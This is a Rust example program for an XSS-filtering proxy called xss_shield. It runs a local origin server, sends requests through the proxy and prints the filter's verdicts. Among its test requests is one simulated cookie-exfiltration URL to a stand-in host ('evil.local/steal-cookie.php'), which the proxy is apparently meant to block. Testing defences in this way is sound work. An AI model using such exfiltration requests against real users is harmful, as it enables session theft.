//! Runs the proxy and management API against a small local origin server,
//! sends a few requests through it and prints what the filter did.
//!
//!     cargo run --example run_proxy            # scripted run, then exit
//!     cargo run --example run_proxy -- serve   # keep serving; try
//!         curl -x http://127.0.0.1:<proxy port> http://site.local/

use std::convert::Infallible;
use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use http::{Request, Response};
use http_body_util::{BodyExt, Empty, Full};
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use tokio::net::{TcpListener, TcpStream};
use xss_shield::gateway::FILTER_REASON_HEADER;
use xss_shield::{Config, RunningProxy};

const PAGE: &str = r#"<html><head><title>site</title></head><body>
<img src="http://cdn.example.net/logo.png">
</body></html>"#;

/// Answers every request: the page at `/`, a tiny image elsewhere.
async fn origin() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let (stream, _) = listener.accept().await.unwrap();
            tokio::spawn(async move {
                let svc = service_fn(|req: Request<hyper::body::Incoming>| async move {
                    let (ct, body) = match req.uri().path() {
                        "/" => ("text/html", Bytes::from_static(PAGE.as_bytes())),
                        _ => ("image/gif", Bytes::from_static(b"GIF89a")),
                    };
                    Ok::<_, Infallible>(Response::builder().header("content-type", ct).body(Full::new(body)).unwrap())
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), svc)
                    .await;
            });
        }
    });
    addr
}

/// GET through the proxy in absolute form.
async fn get(proxy: SocketAddr, url: &str, referer: Option<&str>) -> (u16, String, Bytes) {
    let stream = TcpStream::connect(proxy).await.unwrap();
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream)).await.unwrap();
    tokio::spawn(conn);
    let uri: http::Uri = url.parse().unwrap();
    let mut req = Request::get(url).header("host", uri.authority().unwrap().as_str());
    if let Some(r) = referer {
        req = req.header("referer", r);
    }
    let resp = sender.send_request(req.body(Empty::<Bytes>::new()).unwrap()).await.unwrap();
    let reason = resp
        .headers()
        .get(FILTER_REASON_HEADER)
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    let status = resp.status().as_u16();
    (status, reason, resp.into_body().collect().await.unwrap().to_bytes())
}

pub fn main() {
    run(std::env::args().skip(1));
}

#[tokio::main]
pub async fn run(mut args: impl Iterator<Item = String>) {
    let upstream = origin().await;
    let config = Config::default()
        .ephemeral()
        .with_alert_timeout(Duration::from_millis(500))
        .with_upstream("site.local", upstream)
        .with_upstream("example.net", upstream)
        .with_upstream("evil.local", upstream);
    let proxy = RunningProxy::start(config).await.expect("listeners bind");
    println!("proxy on {}, management api on {}", proxy.proxy_addr, proxy.mgmt_addr);

    if args.next().as_deref() == Some("serve") {
        println!("origin for site.local, example.net and evil.local is {upstream}; ctrl-c to stop");
        tokio::signal::ctrl_c().await.unwrap();
        return;
    }

    let page = "http://site.local/";
    let (status, _, body) = get(proxy.proxy_addr, page, None).await;
    println!("GET {page} -> {status}, {} bytes (control script injected)", body.len());
    for (url, referer) in [
        ("http://site.local/favicon.ico", Some(page)),
        ("http://cdn.example.net/logo.png", Some(page)),
        ("http://evil.local/steal-cookie.php?c=42", Some(page)),
    ] {
        let (status, reason, _) = get(proxy.proxy_addr, url, referer).await;
        println!("GET {url} -> {status} {reason}");
    }
    let snap = proxy.shield.snapshot();
    println!("\n{}", serde_json::to_string_pretty(&snap.counters).unwrap());
}
